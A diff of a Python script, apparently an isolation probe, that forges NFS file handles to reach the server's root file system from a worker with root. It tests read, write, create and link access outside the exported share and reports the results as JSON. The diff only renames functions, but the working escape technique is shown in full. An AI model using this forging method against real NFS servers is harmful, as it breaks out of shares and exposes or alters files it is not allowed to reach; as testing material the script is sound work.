@@ -1,8 +1,8 @@
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""Leave an NFS share by a forged file handle, as root on a worker can; print what came of each attempt as JSON.
+"""Try to leave an NFS share by a forged file handle, as root on a worker can, and print each result as JSON.
 
-Usage: forge.py SERVER SHARE < ATTEMPTS, a JSON list of ``[operation, path on the server's file system]``.
+Usage: forged_handles.py SERVER SHARE < ATTEMPTS, a JSON list of ``[operation, path on the server's file system]``.
 
 The kernel's NFS client tells the server's handle of a file (name_to_handle_at(2); fs/nfs/export.c puts it behind 12
 bytes of its own). An ext4 handle ends with inode and generation (fs/exportfs/expfs.c, FILEID_INO32_GEN). The root
@@ -40,7 +40,7 @@ class Handle(ctypes.Structure):
     _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * MAX_HANDLE_BYTES)]
 
 
-def handle_of(path: str) -> bytes:
+def read_handle(path: str) -> bytes:
     """Return the server's handle of a file on an NFS mount."""
     libc = ctypes.CDLL(None, use_errno=True)
     handle, mount_id = Handle(size=MAX_HANDLE_BYTES), ctypes.c_int()
@@ -51,7 +51,7 @@ def handle_of(path: str) -> bytes:
     return data[CLIENT_HEAD_BYTES + 2 : CLIENT_HEAD_BYTES + 2 + size]
 
 
-def opaque(value: bytes) -> bytes:
+def encode_opaque(value: bytes) -> bytes:
     """Encode bytes of any length (XDR, RFC 4506)."""
     return struct.pack(">I", len(value)) + value + bytes(-len(value) % 4)
 
@@ -72,12 +72,12 @@ class Server:
         self.calls = 0
 
     def compound(self, *operations: bytes) -> tuple[int, bytes]:
-        """Send operations. Returns the status of the last one that ran, and the encoded results."""
+        """Send operations. Return the status of the last one that ran, and the encoded results."""
         self.calls += 1
-        credential = struct.pack(">I", 0) + opaque(b"worker") + struct.pack(">III", 0, 0, 0)
+        credential = struct.pack(">I", 0) + encode_opaque(b"worker") + struct.pack(">III", 0, 0, 0)
         call = struct.pack(">IIIIII", self.calls, 0, 2, NFS_PROGRAM, NFS_VERSION, COMPOUND)
-        call += struct.pack(">I", AUTH_SYS) + opaque(credential) + struct.pack(">II", 0, 0)
-        call += opaque(b"") + struct.pack(">II", 0, len(operations)) + b"".join(operations)
+        call += struct.pack(">I", AUTH_SYS) + encode_opaque(credential) + struct.pack(">II", 0, 0)
+        call += encode_opaque(b"") + struct.pack(">II", 0, len(operations)) + b"".join(operations)
         self.socket.sendall(struct.pack(">I", 0x80000000 | len(call)) + call)
         reply = self._receive(struct.unpack(">I", self._receive(4))[0] & 0x7FFFFFFF)
         # xid, reply, accepted, verifier (flavour, length 0), success, status, empty tag
@@ -94,48 +94,50 @@ class Server:
         return data
 
 
-def walk(root: bytes, path: str) -> list[bytes]:
+def lookup_operations(root: bytes, path: str) -> list[bytes]:
     """Return the operations that lead to a path below a handle."""
     names = [name for name in path.split("/") if name]
-    return [struct.pack(">I", PUTFH) + opaque(root)] + [struct.pack(">I", LOOKUP) + opaque(n.encode()) for n in names]
+    return [struct.pack(">I", PUTFH) + encode_opaque(root)] + [
+        struct.pack(">I", LOOKUP) + encode_opaque(n.encode()) for n in names
+    ]
 
 
-def attempt(server: Server, share: bytes, root: bytes, operation: str, path: str) -> int:
-    """Try one thing. Returns the server's status: 0 when it was done."""
-    there = walk(root, path)
+def try_operation(server: Server, share: bytes, root: bytes, operation: str, path: str) -> int:
+    """Try one operation. Return the server's status: 0 when it succeeded."""
+    lookups = lookup_operations(root, path)
     if operation == "look":
-        return server.compound(*there)[0]
+        return server.compound(*lookups)[0]
     if operation == "read":
-        return server.compound(*there, struct.pack(">I", READ) + NO_STATE + struct.pack(">QI", 0, 4096))[0]
+        return server.compound(*lookups, struct.pack(">I", READ) + NO_STATE + struct.pack(">QI", 0, 4096))[0]
     if operation == "write":  # no byte: the permission is what is tried
         return server.compound(
-            *there, struct.pack(">I", WRITE) + NO_STATE + struct.pack(">QI", 0, FILE_SYNC) + opaque(b"")
+            *lookups, struct.pack(">I", WRITE) + NO_STATE + struct.pack(">QI", 0, FILE_SYNC) + encode_opaque(b"")
         )[0]
     if operation == "create":
-        make = struct.pack(">II", CREATE, NF4DIR) + opaque(NAME.encode()) + struct.pack(">II", 0, 0)
-        status = server.compound(*there, make)[0]
+        make = struct.pack(">II", CREATE, NF4DIR) + encode_opaque(NAME.encode()) + struct.pack(">II", 0, 0)
+        status = server.compound(*lookups, make)[0]
         if status == 0:
-            server.compound(*there, struct.pack(">I", REMOVE) + opaque(NAME.encode()))
+            server.compound(*lookups, struct.pack(">I", REMOVE) + encode_opaque(NAME.encode()))
         return status
     if operation == "link":  # a hard link to a foreign file, inside the share
         save = struct.pack(">I", SAVEFH)
-        link = struct.pack(">I", LINK) + opaque(NAME.encode())
-        return server.compound(*there, save, struct.pack(">I", PUTFH) + opaque(share), link)[0]
+        link = struct.pack(">I", LINK) + encode_opaque(NAME.encode())
+        return server.compound(*lookups, save, struct.pack(">I", PUTFH) + encode_opaque(share), link)[0]
     raise ValueError(operation)
 
 
 def main() -> None:
-    """Forge, try, and print."""
+    """Forge a handle, try each operation, and print the results."""
     address, share = sys.argv[1:]
     inside = os.path.join(share, NAME + "-directory")
     os.makedirs(inside, exist_ok=True)
     try:
-        handle = handle_of(inside)
+        handle = read_handle(inside)
         root = handle[:-8] + EXT4_ROOT
         server = Server(address)
         results = {}
         for operation, path in json.load(sys.stdin):
-            status = attempt(server, handle, root, operation, path)
+            status = try_operation(server, handle, root, operation, path)
             results[f"{operation} {path}"] = STATUS.get(status, str(status))
         print(json.dumps(results, indent=1))
     finally:
